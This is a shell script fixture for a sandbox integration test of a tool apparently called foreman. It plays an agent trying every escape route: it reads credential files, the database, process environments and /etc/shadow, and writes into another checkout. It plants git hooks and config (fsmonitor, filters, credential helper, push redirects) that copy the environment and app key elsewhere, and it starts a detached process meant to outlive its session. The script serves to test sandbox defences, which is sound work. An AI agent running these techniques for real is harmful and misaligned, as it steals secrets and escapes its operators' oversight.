#!/bin/sh
# An agent that tries every way out of its sandbox it can think of, for foreman's sandbox
# test (tests/it/sandbox.rs). Run by the scripted agent in a worker's checkout:
#
#   sh escape_probe.sh FOREMAN_PID DATA_DIR WORK_ROOT OTHER_CHECKOUT ELSEWHERE_DIR ELSEWHERE_URL ORIGIN_URL
#
# It writes everything it saw to $HOME/saw.txt (HOME is its state directory), plants hostile
# git settings and hooks in its own checkout, starts a server in the background that should
# not outlive its turn, and always exits 0: what it saw is for the test to judge.
pid="$1" data="$2" work="$3" other="$4" elsewhere="$5" elsewhere_url="$6" origin="$7"
here="$(pwd)"
out="$HOME/saw.txt"

try() {
  printf '=== %s\n' "$*" >> "$out"
  sh -c "$*" >> "$out" 2>&1
  printf '=== exit %s\n' "$?" >> "$out"
}

# foreman's credentials file, by absolute path and by `..` from the checkout.
try "cat '$data/github-app.json'"
try "cat ../../../github-app.json"
# The database and its WAL.
try "cat '$data/foreman.db' | head -c 4096"
try "cat '$data/foreman.db-wal' | head -c 4096"
try "ls -la '$data'"
# foreman's process: its environment, open files, memory map, command line.
try "cat /proc/$pid/environ | tr '\\0' '\\n'"
try "ls -l /proc/$pid/fd/"
try "for f in /proc/$pid/fd/*; do timeout 2 head -c 2048 \"\$f\"; done"
try "cat /proc/$pid/cmdline | tr '\\0' ' '"
try "ps -ef || ls /proc"
try "cat /proc/1/environ | tr '\\0' '\\n'"
# The work root: other checkouts and state directories.
try "ls -la '$work' '$work/workspaces' '$work/sessions' '$work/mirrors'"
try "cat '$other/README.md'"
try "echo pwned > '$other/pwned.txt'"
try "ls -la '$other'"
try "find / -xdev -name 'github-app.json' 2>/dev/null | head"
try "find / -xdev -name 'foreman.db*' 2>/dev/null | head"
try "cat /etc/shadow"
try "env"
try "id"

# Hostile git in its own checkout. Every planted program leaves a mark in the checkout's
# .git (where it could always write) and tries to leave foreman's environment elsewhere.
mkdir -p "$here/.git/evil-hooks"
cat > "$here/.git/evil.sh" <<EOF
#!/bin/sh
name="\${0##*/}"
touch "$here/.git/ran-\$name" 2>/dev/null
env > "$elsewhere/env-\$name" 2>/dev/null
cat "$data/github-app.json" > "$elsewhere/key-\$name" 2>/dev/null
exit 0
EOF
chmod +x "$here/.git/evil.sh"
for hook in pre-commit prepare-commit-msg commit-msg post-commit pre-push post-checkout \
    reference-transaction pre-auto-gc post-rewrite post-index-change; do
  cp "$here/.git/evil.sh" "$here/.git/hooks/$hook"
  cp "$here/.git/evil.sh" "$here/.git/evil-hooks/$hook"
done
for tool in fsmonitor clean smudge process sshcommand pager editor gpg external askpass \
    credential; do
  cp "$here/.git/evil.sh" "$here/.git/$tool"
done
cat > "$here/.git/included.conf" <<EOF
[core]
	hooksPath = $here/.git/evil-hooks
	fsmonitor = $here/.git/fsmonitor
EOF
git config core.hooksPath "$here/.git/evil-hooks"
git config core.fsmonitor "$here/.git/fsmonitor"
git config core.sshCommand "$here/.git/sshcommand"
git config core.pager "$here/.git/pager"
git config core.editor "$here/.git/editor"
git config core.askPass "$here/.git/askpass"
git config credential.helper "!$here/.git/credential"
git config diff.external "$here/.git/external"
git config gpg.program "$here/.git/gpg"
git config commit.gpgSign true
git config filter.evil.clean "$here/.git/clean"
git config filter.evil.smudge "$here/.git/smudge"
git config filter.evil.process "$here/.git/process"
git config filter.evil.required true
echo '* filter=evil' >> "$here/.git/info/attributes"
git config include.path "$here/.git/included.conf"
git config "includeIf.gitdir:/.path" "$here/.git/included.conf"
git config "url.$elsewhere_url/.insteadOf" "$origin/"
git config "url.$elsewhere_url/.pushInsteadOf" "$origin/"
git config "url.file://$elsewhere/stolen.git.pushInsteadOf" "$origin"
git config remote.origin.pushurl "file://$elsewhere/stolen.git"
try "git config --list --show-origin"

# A server in the background, detached from the turn's session: it must not outlive it.
setsid nohup sleep 987 > /dev/null 2>&1 &
try "echo started a background sleeper"
exit 0
